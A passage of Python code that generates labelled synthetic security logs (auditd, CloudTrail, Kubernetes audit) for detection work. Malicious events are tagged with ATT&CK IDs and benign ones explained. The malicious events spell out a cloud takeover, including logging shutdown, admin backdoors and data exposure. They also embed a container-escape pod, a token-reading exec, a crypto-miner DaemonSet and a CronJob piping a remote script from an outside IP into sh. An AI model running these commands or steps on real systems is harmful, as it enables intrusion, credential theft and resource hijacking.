ex_pair(T(23, 10, 40, 0), ["vault", "write", "-f", "ssh-client-signer/rotate"], "CA key rotation by the vault automation role", None, "/usr/local/bin/vault", uid=1250, auid=1250, aname="svc_keyrotate", uname="svc_keyrotate", mal=False, with_sc=False)
ex_pair(T(23, 11, 0, 0), ["docker", "run", "--rm", "registry.rvm.internal/tms/migrate:4.18.2", "--dry-run"], "CI deployment running a migration container", None, "/usr/bin/docker",
        mal=False, uid=1003, auid=1003, aname="tms", uname="tms", with_sc=False)
B(S, aud(T(23, 11, 5, 0), "USER_CMD", "pid=6621 uid=1201 auid=1201 ses=31 subj=unconfined msg='cwd=\"/home/m.aziz\" cmd=73797374656D63746C20737461747573206E67696E78 exe=\"/usr/bin/sudo\" terminal=pts/1 res=success'", "UID=\"m.aziz\" AUID=\"m.aziz\""),
  "sudo systemctl status nginx by an admin (hex cmd)")
B(S, aud(T(23, 11, 6, 0), "USER_LOGIN", "pid=6600 uid=0 auid=1201 ses=31 subj=unconfined msg='op=login id=1201 exe=\"/usr/sbin/sshd\" hostname=10.212.31.52 addr=10.212.31.52 terminal=/dev/pts/1 res=success'", "UID=\"root\" AUID=\"m.aziz\" ID=\"m.aziz\""),
  "admin SSH login recorded by audit")
B(S, aud(T(23, 11, 7, 0), "CRED_ACQ", "pid=6610 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:setcred grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'", "UID=\"root\" AUID=\"unset\""),
  "cron credential acquisition")
B(S, aud(T(23, 11, 8, 0), "CONFIG_CHANGE", "auid=4294967295 ses=4294967295 subj=unconfined op=add_rule key=\"exec\" list=4 res=1", "AUID=\"unset\""), "rules loaded at boot by augenrules")
B(S, aud(T(23, 11, 9, 0), "SERVICE_START", "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=restic-backup comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'", "UID=\"root\" AUID=\"unset\""),
  "backup unit started by systemd")
B(S, aud(T(23, 11, 10, 0), "USER_AUTH", "pid=6700 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=? acct=\"k.sorensen\" exe=\"/usr/sbin/sshd\" hostname=10.212.33.14 addr=10.212.33.14 terminal=ssh res=failed'", "UID=\"root\" AUID=\"unset\""),
  "one failed SSH password of a known user from the office")
B(S, aud(T(23, 11, 12, 0), "ADD_USER", "pid=6720 uid=0 auid=1201 ses=31 subj=unconfined msg='op=add-user id=1221 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/1 res=success'", "UID=\"root\" AUID=\"m.aziz\" ID=\"b.tanaka\""),
  "admin creating a new team member account in office hours")
# ---------------------------------------------------------------- aws-cloudtrail
S = "aws-cloudtrail"
ACCT = "604219773351"
_ev = [0]


def ct(t, name, src, ip, ident, params=None, resp=None, err=None, ua="aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux#6.8.0-1019-aws md/arch#x86_64 lang/python#3.12.8 md/pyimpl#CPython cmd/" ,
       region="eu-central-1", ro=False, etype="AwsApiCall", extra=None, wrap=None, mgmt=True):
    _ev[0] += 1
    n = _ev[0]
    e = {"eventVersion": "1.11", "userIdentity": ident, "eventTime": iso(t, 0), "eventSource": src, "eventName": name, "awsRegion": region,
         "sourceIPAddress": ip, "userAgent": ua, "requestParameters": params, "responseElements": resp,
         "requestID": "%08x-%04x-4%03x-9%03x-%012x" % (0x7a1c0000 + n * 977, n * 31 % 65536, n % 4096, n * 7 % 4096, 0x2b3c4d5e6f70 + n * 1013),
         "eventID": "%08x-%04x-4%03x-a%03x-%012x" % (0x3e9d0000 + n * 1231, n * 53 % 65536, n * 3 % 4096, n * 11 % 4096, 0x9f8e7d6c5b4a + n * 2029),
         "readOnly": ro, "eventType": etype, "managementEvent": mgmt, "recipientAccountId": ACCT, "eventCategory": "Management",
         "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256", "clientProvidedHostHeader": f"{src.split('.')[0]}.{region}.amazonaws.com"}}
    if err:
        e["errorCode"], e["errorMessage"] = err
    if extra:
        e.update(extra)
    if wrap == "records":
        return J({"Records": [e]})
    if wrap == "eventbridge":
        return J({"version": "0", "id": "%08x-%04x-%04x-%04x-%012x" % (0xe0b1c000 + n, n, n * 3, n * 5, 0x11aa22bb33 + n), "detail-type": "AWS API Call via CloudTrail",
                  "source": "aws." + src.split(".")[0], "account": ACCT, "time": iso(t, 0), "region": region, "resources": [], "detail": e})
    return J(e)


def iam_user(u, key="AKIAEXAMPLEQ7RVM0001"):
    return {"type": "IAMUser", "principalId": "AIDAEXAMPLE" + u.upper().replace(".", "")[:9], "arn": f"arn:aws:iam::{ACCT}:user/{u}", "accountId": ACCT, "accessKeyId": key, "userName": u}


def role(r, sess, key="ASIAEXAMPLEZ4RVM0002", mfa="false"):
    return {"type": "AssumedRole", "principalId": f"AROAEXAMPLE4RVM{len(r):02d}:{sess}", "arn": f"arn:aws:sts::{ACCT}:assumed-role/{r}/{sess}", "accountId": ACCT, "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": f"AROAEXAMPLE4RVM{len(r):02d}", "arn": f"arn:aws:iam::{ACCT}:role/{r}", "accountId": ACCT, "userName": r},
                               "attributes": {"creationDate": "2026-11-23T00:10:00Z", "mfaAuthenticated": mfa}}}


LEAK = iam_user("ci-artifacts-uploader", "AKIAEXAMPLELEAKED042")
BAD = "185.220.101.47"
M(S, ct(T(23, 0, 12, 3), "GetCallerIdentity", "sts.amazonaws.com", BAD, LEAK, ro=True, ua="Boto3/1.35.80 md/Botocore#1.35.80 ua/2.0 os/linux#6.1.0-kali9-amd64 lang/python#3.12.7"),
  "T1078.004", "CI uploader key used from a Tor exit on a Kali host - leaked cloud credential in use")
M(S, ct(T(23, 0, 12, 40), "ListBuckets", "s3.amazonaws.com", BAD, LEAK, ro=True, ua="[Boto3/1.35.80 md/Botocore#1.35.80 os/linux#6.1.0-kali9-amd64]"),
  "T1619", "bucket enumeration with the leaked key")
M(S, ct(T(23, 0, 13, 5), "ListAttachedUserPolicies", "iam.amazonaws.com", BAD, LEAK, {"userName": "ci-artifacts-uploader"}, ro=True, region="us-east-1", ua="Boto3/1.35.80 md/Botocore#1.35.80 os/linux#6.1.0-kali9-amd64 pacu/1.6.0"),
  "T1069.003", "policy enumeration tagged by the pacu framework")
M(S, ct(T(23, 0, 14, 0), "CreateUser", "iam.amazonaws.com", BAD, LEAK, {"userName": "aws-backup-svc"}, {"user": {"userName": "aws-backup-svc", "arn": f"arn:aws:iam::{ACCT}:user/aws-backup-svc", "createDate": "Nov 23, 2026, 12:14:00 AM"}}, region="us-east-1"),
  "T1136.003", "new IAM user with a service-like name created from the Tor exit")
M(S, ct(T(23, 0, 14, 20), "AttachUserPolicy", "iam.amazonaws.com", BAD, LEAK, {"userName": "aws-backup-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, region="us-east-1"),
  "T1098.003", "AdministratorAccess attached to the attacker's new user")
M(S, ct(T(23, 0, 14, 41), "CreateAccessKey", "iam.amazonaws.com", BAD, LEAK, {"userName": "aws-backup-svc"}, {"accessKey": {"userName": "aws-backup-svc", "accessKeyId": "AKIAEXAMPLENEWKEY777", "status": "Active"}}, region="us-east-1"),
  "T1098.001", "access key minted for another user than the caller - additional cloud credentials")
M(S, ct(T(23, 0, 20, 0), "StopLogging", "cloudtrail.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"), {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCT}:trail/org-trail"}, wrap="eventbridge"),
  "T1562.008", "organisation trail stopped by the new admin user")
M(S, ct(T(23, 0, 21, 0), "DeleteDetector", "guardduty.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"), {"detectorId": "6ec2a1b0f4d2e9c87a1b3c5d7e9f0a12"}),
  "T1562.008", "GuardDuty detector deleted")
M(S, ct(T(23, 0, 25, 0), "ModifySnapshotAttribute", "ec2.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"snapshotId": "snap-0a9c3e1f27b4d6e88", "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": {"add": {"items": [{"userId": "911827364512"}]}}}, {"_return": True}, wrap="records"),
  "T1537", "database volume snapshot shared with an unknown external account - transfer to cloud account")
M(S, ct(T(23, 0, 27, 0), "PutBucketPolicy", "s3.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"bucketName": "rvm-customs-docs", "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::rvm-customs-docs/*"}]}, "policy": ""}),
  "T1530", "customs-documents bucket opened to everyone with an Allow * GetObject policy")
M(S, ct(T(23, 0, 30, 0), "SendCommand", "ssm.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"instanceIds": ["i-0c3f1a2b4d5e6f708"], "documentName": "AWS-RunShellScript", "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "interactive": False}, {"command": {"commandId": "7b1e2c3d-4f5a-4b6c-8d7e-9f0a1b2c3d4e", "documentName": "AWS-RunShellScript", "status": "Pending"}}),
  "T1651", "shell script pushed to an instance through SSM Run Command by the attacker's user")
M(S, ct(T(23, 0, 33, 0), "RunInstances", "ec2.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"instancesSet": {"items": [{"imageId": "ami-0d1e2f3a4b5c6d7e8", "minCount": 20, "maxCount": 20}]}, "instanceType": "p4d.24xlarge"}, region="ap-southeast-1", wrap="eventbridge"),
  "T1496.001", "twenty GPU instances launched in an unused region - resource hijacking")
M(S, ct(T(23, 0, 36, 0), "GetSecretValue", "secretsmanager.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"), {"secretId": "prod/paygw/db"}, ro=True),
  "T1555.006", "payment-gateway database secret read by the attacker's user")
M(S, ct(T(23, 0, 38, 0), "DeleteBucket", "s3.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"), {"bucketName": "rvm-cloudtrail-archive", "Host": "rvm-cloudtrail-archive.s3.eu-central-1.amazonaws.com"}),
  "T1485", "CloudTrail archive bucket deleted")
M(S, ct(T(23, 0, 40, 0), "UpdateAssumeRolePolicy", "iam.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"roleName": "OrganizationAccountAccessRole", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::911827364512:root\"},\"Action\":\"sts:AssumeRole\"}]}"}, region="us-east-1"),
  "T1098.003", "trust policy of the organisation admin role changed to trust an external account")
M(S, ct(T(23, 0, 42, 0), "CreateLoginProfile", "iam.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"), {"userName": "svc-monitoring", "passwordResetRequired": False}, region="us-east-1"),
  "T1098", "console password added to a service user that never had one")
M(S, ct(T(23, 0, 45, 0), "PutEventSelectors", "cloudtrail.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"trailName": "data-trail", "eventSelectors": [{"readWriteType": "WriteOnly", "includeManagementEvents": False, "dataResources": []}]}),
  "T1562.008", "trail event selectors cut down to nothing - logging impaired without stopping the trail")
M(S, ct(T(23, 0, 47, 0), "ConsoleLogin", "signin.amazonaws.com", "179.43.151.12", {"type": "IAMUser", "principalId": "AIDAEXAMPLESVCMON01", "arn": f"arn:aws:iam::{ACCT}:user/svc-monitoring", "accountId": ACCT, "userName": "svc-monitoring"},
  None, {"ConsoleLogin": "Success"}, region="us-east-1", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", etype="AwsConsoleSignIn",
  extra={"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"}}),
  "T1078.004", "console login with the password just added to a service account, no MFA, from a VPS")
M(S, ct(T(23, 0, 50, 0), "PutObject", "s3.amazonaws.com", "179.43.151.12", role("rvm-etl-writer", "i-0c3f1a2b4d5e6f708"), {"bucketName": "rvm-etl-staging", "key": "exports/all_shipments_2026.csv.gz"},
  ro=False, extra={"eventCategory": "Data", "resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::rvm-etl-staging/exports/all_shipments_2026.csv.gz"}]}, mgmt=False),
  "T1552.005", "instance role credentials used from outside AWS (VPS address) - stolen from the metadata service")
M(S, ct(T(23, 0, 52, 0), "CreateKey", "kms.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"keyUsage": "ENCRYPT_DECRYPT", "keySpec": "SYMMETRIC_DEFAULT", "origin": "EXTERNAL", "policy": "{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::911827364512:root\"},\"Action\":\"kms:*\",\"Resource\":\"*\"}]}"}),
  "T1486", "KMS key with imported material controlled by an external account - set-up for encrypting S3 data for ransom")
M(S, ct(T(23, 0, 54, 0), "ScheduleKeyDeletion", "kms.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"), {"keyId": "arn:aws:kms:eu-central-1:604219773351:key/2f1e0d9c-8b7a-4c6d-9e5f-4a3b2c1d0e9f", "pendingWindowInDays": 7}),
  "T1485", "the key protecting the backup vault scheduled for deletion")
# benign
B(S, ct(T(24, 9, 0, 0), "CreateAccessKey", "iam.amazonaws.com", "10.212.9.4", role("key-rotation-automation", "rotate-ci-artifacts-uploader"), {"userName": "ci-artifacts-uploader"},
  {"accessKey": {"userName": "ci-artifacts-uploader", "accessKeyId": "AKIAEXAMPLEROTATED09", "status": "Active"}}, region="us-east-1", ua="aws-sdk-go-v2/1.32.6 os/linux lang/go#1.23.3 exec-env/AWS_Lambda_provided.al2023"),
  "incident response: the key-rotation role issues a replacement key for the leaked CI user")
B(S, ct(T(24, 9, 0, 30), "DeleteAccessKey", "iam.amazonaws.com", "10.212.9.4", role("key-rotation-automation", "rotate-ci-artifacts-uploader"), {"userName": "ci-artifacts-uploader", "accessKeyId": "AKIAEXAMPLELEAKED042"},
  region="us-east-1", ua="aws-sdk-go-v2/1.32.6 os/linux lang/go#1.23.3 exec-env/AWS_Lambda_provided.al2023"), "old key deleted by the same rotation role")
B(S, ct(T(24, 9, 10, 0), "CreateAccessKey", "iam.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK001"), {"userName": "t.okonkwo"},
  {"accessKey": {"userName": "t.okonkwo", "accessKeyId": "AKIAEXAMPLEOKONK002", "status": "Active"}}, region="us-east-1"), "user rotating her own access key from the office egress")
B(S, ct(T(24, 9, 11, 0), "UpdateAccessKey", "iam.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {"userName": "t.okonkwo", "accessKeyId": "AKIAEXAMPLEOKONK001", "status": "Inactive"}, region="us-east-1"),
  "her old key deactivated by herself")
B(S, ct(T(24, 2, 0, 0), "StartBackupJob", "backup.amazonaws.com", "backup.amazonaws.com", {"type": "AWSService", "invokedBy": "backup.amazonaws.com"},
  {"backupVaultName": "rvm-prod-vault", "resourceArn": f"arn:aws:rds:eu-central-1:{ACCT}:db:paygw-prod", "iamRoleArn": f"arn:aws:iam::{ACCT}:role/service-role/AWSBackupDefaultServiceRole"}, ua="backup.amazonaws.com"),
  "AWS Backup plan nightly job")
B(S, ct(T(24, 2, 5, 0), "CreateSnapshot", "ec2.amazonaws.com", "dlm.amazonaws.com", role("AWSDataLifecycleManagerDefaultRole", "dlm-policy-0a1b2c3d"), {"volumeId": "vol-0e1d2c3b4a5968778", "description": "Created for policy: policy-0a1b2c3d4e5f60718 schedule: daily"},
  ua="dlm.amazonaws.com", wrap="records"), "DLM daily snapshot")
B(S, ct(T(24, 3, 0, 0), "RotateSecret", "secretsmanager.amazonaws.com", "secretsmanager.amazonaws.com", {"type": "AWSService", "invokedBy": "secretsmanager.amazonaws.com"}, {"secretId": "prod/tms/db"}, ua="secretsmanager.amazonaws.com"),
  "scheduled Secrets Manager rotation")
B(S, ct(T(24, 3, 0, 5), "GetSecretValue", "secretsmanager.amazonaws.com", "lambda.amazonaws.com", role("SecretsRotation-tms-db", "SecretsManagerRotation"), {"secretId": "prod/tms/db", "versionStage": "AWSPENDING"}, ro=True, ua="Boto3/1.34.162 md/Botocore#1.34.162 exec-env/AWS_Lambda_python3.12"),
  "rotation Lambda reading the pending version")
B(S, ct(T(24, 3, 10, 0), "RotateKey", "kms.amazonaws.com", "kms.amazonaws.com", {"type": "AWSService", "invokedBy": "kms.amazonaws.com"}, {"keyId": f"arn:aws:kms:eu-central-1:{ACCT}:key/7a6b5c4d-3e2f-4a1b-9c0d-e1f2a3b4c5d6"}, ua="kms.amazonaws.com", etype="AwsServiceEvent"),
  "automatic yearly KMS rotation")
B(S, ct(T(24, 8, 30, 0), "ConsoleLogin", "signin.amazonaws.com", "86.131.44.144", {"type": "AssumedRole", "principalId": "AROAEXAMPLESSO0001:w.lindqvist@ravenmoor.eu", "arn": f"arn:aws:sts::{ACCT}:assumed-role/AWSReservedSSO_ReadOnly_3f2e1d0c/w.lindqvist@ravenmoor.eu", "accountId": ACCT},
  None, {"ConsoleLogin": "Success"}, region="eu-central-1", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", etype="AwsConsoleSignIn",
  extra={"additionalEventData": {"LoginTo": "https://eu-central-1.console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No", "SamlProviderArn": f"arn:aws:iam::{ACCT}:saml-provider/AWSSSO_1a2b3c4d_DO_NOT_DELETE"}}, wrap="eventbridge"),
  "federated SSO console login - MFA is done at the IdP so MFAUsed=No is expected")
B(S, ct(T(24, 8, 40, 0), "ConsoleLogin", "signin.amazonaws.com", "92.40.176.12", {"type": "IAMUser", "principalId": "AIDAEXAMPLEBREAKGL1", "arn": f"arn:aws:iam::{ACCT}:user/g.marsh", "accountId": ACCT, "userName": "g.marsh"},
  None, {"ConsoleLogin": "Failure"}, region="us-east-1", ua="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", etype="AwsConsoleSignIn",
  err=(None, "Failed authentication"), extra={"additionalEventData": {"MFAUsed": "Yes"}}), "one failed console password from a known user")
B(S, ct(T(24, 9, 30, 0), "DescribeInstances", "ec2.amazonaws.com", "10.212.250.11", role("tenable-cloud-audit", "tenable-io-scan"), {"maxResults": 1000}, ro=True, ua="Tenable.io/1.0 aws-sdk-java/1.12.770"),
  "approved Tenable cloud audit role inventorying instances")
B(S, ct(T(24, 9, 31, 0), "GetBucketAcl", "s3.amazonaws.com", "10.212.250.11", role("tenable-cloud-audit", "tenable-io-scan"), {"bucketName": "rvm-customs-docs", "acl": ""}, ro=True, ua="Tenable.io/1.0 aws-sdk-java/1.12.770"),
  "approved Tenable audit reading bucket ACLs")
B(S, ct(T(24, 10, 0, 0), "PutBucketPolicy", "s3.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"),
  {"bucketName": "rvm-customs-docs", "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": ["arn:aws:s3:::rvm-customs-docs", "arn:aws:s3:::rvm-customs-docs/*"], "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}}),
  "bucket policy restored: Principal * only in a Deny for non-TLS access")
B(S, ct(T(24, 10, 5, 0), "StartLogging", "cloudtrail.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCT}:trail/org-trail"}),
  "trail restarted during incident recovery")
B(S, ct(T(24, 10, 10, 0), "AssumeRole", "sts.amazonaws.com", "10.212.9.20", role("github-actions-deploy", "gha-tms-4411"), {"roleArn": f"arn:aws:iam::{ACCT}:role/tms-deployer", "roleSessionName": "gha-tms-4411", "durationSeconds": 3600}, ro=True,
  ua="aws-sdk-js/3.701.0 ua/2.1 os/linux#6.8.0 lang/js md/nodejs#20.18.1 api/sts#3.701.0"), "CI deployment role chaining")
B(S, ct(T(24, 10, 20, 0), "ListSecrets", "secretsmanager.amazonaws.com", "10.212.9.20", role("tms-deployer", "gha-tms-4411"), {"maxResults": 100}, ro=True, ua="aws-sdk-js/3.701.0 ua/2.1 os/linux lang/js md/nodejs#20.18.1"),
  "deployer listing its secrets")
B(S, ct(T(24, 11, 0, 0), "RequestCertificate", "acm.amazonaws.com", "acm.amazonaws.com", {"type": "AWSService", "invokedBy": "acm.amazonaws.com"}, {"domainName": "api.ravenmoor.eu", "validationMethod": "DNS"}, ua="acm.amazonaws.com", etype="AwsServiceEvent"),
  "ACM managed renewal")
B(S, ct(T(24, 11, 30, 0), "RunInstances", "ec2.amazonaws.com", "autoscaling.amazonaws.com", role("AWSServiceRoleForAutoScaling", "AutoScaling"),
  {"instancesSet": {"items": [{"imageId": "ami-0f9e8d7c6b5a49382", "minCount": 2, "maxCount": 2}]}, "instanceType": "m7i.large"}, ua="autoscaling.amazonaws.com"), "autoscaling scale-out")
B(S, ct(T(24, 12, 0, 0), "GetObject", "s3.amazonaws.com", "10.212.40.30", role("rvm-etl-writer", "i-0c3f1a2b4d5e6f708"), {"bucketName": "rvm-etl-staging", "key": "imports/edi/ASN_20261124_0931.xml"}, ro=True,
  extra={"eventCategory": "Data", "vpcEndpointId": "vpce-0a1b2c3d4e5f60718"}, mgmt=False, ua="[aws-sdk-java/2.29.20 Linux/6.1.115-126.197.amzn2023.x86_64]"), "ETL instance role reading input through the VPC endpoint")
B(S, ct(T(24, 13, 0, 0), "CreateUser", "iam.amazonaws.com", "10.212.9.4", role("terraform-iam-admin", "tf-run-88123"), {"userName": "svc-edi-partner-kuehne", "tags": [{"key": "ticket", "value": "CHG-21120"}]},
  region="us-east-1", ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.80.0"), "IAM user created by Terraform under a change ticket")
B(S, ct(T(24, 14, 10, 0), "AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", "10.212.9.4", role("terraform-net-admin", "tf-run-88140"),
  {"groupId": "sg-0b1c2d3e4f5a69788", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "10.212.0.0/16"}]}}]}},
  ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.8 terraform-provider-aws/5.80.0"), "internal-only HTTPS rule from Terraform")
# ---------------------------------------------------------------- kubernetes-audit
S = "kubernetes-audit"
_au = [0]


def k8(t, verb, user, groups, res, ns=None, name=None, sub=None, ips=("10.212.70.5",), code=200, ua="kubectl/v1.31.3 (linux/amd64) kubernetes/c83cbee", level="Metadata",
       req=None, resp_status=None, stage="ResponseComplete", uri=None, annotations=None, group="", apiver="v1"):
    _au[0] += 1
    n = _au[0]
    path = f"/api/v1" if not group else f"/apis/{group}/{apiver}"
    if ns:
        path += f"/namespaces/{ns}"
    path += f"/{res}"
    if name:
        path += f"/{name}"
    if sub:
        path += f"/{sub}"
    o = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": "%08x-%04x-4%03x-8%03x-%012x" % (0x5d4c0000 + n * 4099, n * 17, n % 4096, n * 5 % 4096, 0x3a2b1c0d9e8f + n * 7919),
         "stage": stage, "requestURI": uri or path, "verb": verb, "user": {"username": user, "groups": groups},
         "sourceIPs": list(ips), "userAgent": ua, "objectRef": {"resource": res, "apiVersion": apiver}, "responseStatus": {"metadata": {}, "code": code},
         "requestReceivedTimestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}Z",
         "stageTimestamp": (t + dt.timedelta(milliseconds=23)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{(t + dt.timedelta(milliseconds=23)).microsecond:06d}Z",
         "annotations": annotations or {"authorization.k8s.io/decision": "allow" if code < 400 else "forbid", "authorization.k8s.io/reason": ""}}
    if ns:
        o["objectRef"]["namespace"] = ns
    if name:
        o["objectRef"]["name"] = name
    if sub:
        o["objectRef"]["subresource"] = sub
    if group:
        o["objectRef"]["apiGroup"] = group
    if req is not None:
        o["requestObject"] = req
    if resp_status:
        o["responseStatus"].update(resp_status)
    return J(o)


SA_WEB = "system:serviceaccount:tms:tms-web"
SAG = ["system:serviceaccounts", "system:serviceaccounts:tms", "system:authenticated"]
POD_IP = ("10.244.3.17",)
M(S, k8(T(23, 1, 5, 0), "create", SA_WEB, SAG, "selfsubjectrulesreviews", ips=POD_IP, ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", group="authorization.k8s.io", apiver="v1", code=201),
  "T1613", "the web pod's service account asks what it may do, with a kubectl the image does not ship - discovery from a compromised pod")
for i, ns in enumerate(["kube-system", "tms", "paygw", "monitoring", "default"]):
    M(S, k8(T(23, 1, 5, 2 + i, 100 * i), "list", SA_WEB, SAG, "secrets", ns=ns, ips=POD_IP, ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", code=403 if ns != "tms" else 200),
      "T1552.007", "service account sweeping secrets across namespaces seconds apart")
M(S, k8(T(23, 1, 7, 0), "create", SA_WEB, SAG, "pods", ns="tms", ips=POD_IP, ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", code=201, level="Request",
  req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "tms-web-debug", "namespace": "tms"}, "spec": {"hostPID": True, "hostNetwork": True,
       "containers": [{"name": "x", "image": "docker.io/library/alpine:3.20", "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], "securityContext": {"privileged": True}}]}}),
  "T1611", "privileged hostPID pod whose container nsenters PID 1 - escape to the node")
M(S, k8(T(23, 1, 8, 0), "create", SA_WEB, SAG, "pods", ns="tms", name="tms-web-6c9f7d8b5-qx2lm", sub="exec", ips=POD_IP, ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", code=101,
  uri="/api/v1/namespaces/tms/pods/tms-web-6c9f7d8b5-qx2lm/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=web&stderr=true&stdout=true"),
  "T1609", "exec into a running pod to read its service-account token")
M(S, k8(T(23, 1, 10, 0), "create", "system:serviceaccount:tms:tms-batch", ["system:serviceaccounts", "system:serviceaccounts:tms", "system:authenticated"], "serviceaccounts", ns="kube-system", name="clusterrole-aggregation-controller", sub="token",
  ips=POD_IP, ua="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", code=201, group="", apiver="v1"),
  "T1528", "token requested for a highly privileged kube-system service account by a workload identity")
M(S, k8(T(23, 1, 11, 0), "create", "system:serviceaccount:kube-system:clusterrole-aggregation-controller", ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"], "clusterrolebindings",
  name=None, ips=POD_IP, code=201, group="rbac.authorization.k8s.io", level="Request",
  req={"kind": "ClusterRoleBinding", "metadata": {"name": "system:node-proxier-ext"}, "roleRef": {"kind": "ClusterRole", "name": "cluster-admin", "apiGroup": "rbac.authorization.k8s.io"},
       "subjects": [{"kind": "ServiceAccount", "name": "tms-web", "namespace": "tms"}]}),
  "T1098.006", "cluster-admin bound to the web service account under a system-looking name")
M(S, k8(T(23, 1, 13, 0), "create", SA_WEB, SAG, "daemonsets", ns="kube-system", ips=POD_IP, code=201, group="apps", level="Request",
  req={"kind": "DaemonSet", "metadata": {"name": "kube-proxy-metrics", "namespace": "kube-system"}, "spec": {"template": {"spec": {"containers": [{"name": "m", "image": "docker.io/xmrig/xmrig:6.22.0", "args": ["-o", "pool.hashvault.pro:443", "--tls"]}]}}}}),
  "T1496.001", "miner DaemonSet disguised as kube-proxy metrics on every node")
M(S, k8(T(23, 1, 15, 0), "create", SA_WEB, SAG, "cronjobs", ns="kube-system", ips=POD_IP, code=201, group="batch", level="Request",
  req={"kind": "CronJob", "metadata": {"name": "etcd-defrag"}, "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "c", "image": "busybox:1.36", "command": ["sh", "-c", "wget -qO- http://45.155.205.233/k|sh"]}]}}}}}}),
  "T1053.007", "CronJob named like etcd maintenance fetching a script every ten minutes")
M(S, k8(T(23, 1, 17, 0), "patch", SA_WEB, SAG, "pods", ns="paygw", name="paygw-api-7d5f9c-hk8rt", sub="ephemeralcontainers", ips=POD_IP, code=200, level="Request",
  req={"spec": {"ephemeralContainers": [{"name": "debugger-x", "image": "docker.io/nicolaka/netshoot", "targetContainerName": "api", "stdin": True, "tty": True}]}}),
  "T1609", "ephemeral container injected into the payment API pod by a foreign service account")
M(S, k8(T(23, 1, 19, 0), "get", SA_WEB, SAG, "nodes", name="ip-10-212-71-14", sub="proxy", ips=POD_IP, code=200,
  uri="/api/v1/nodes/ip-10-212-71-14/proxy/run/paygw/paygw-api-7d5f9c-hk8rt/api?cmd=env"),
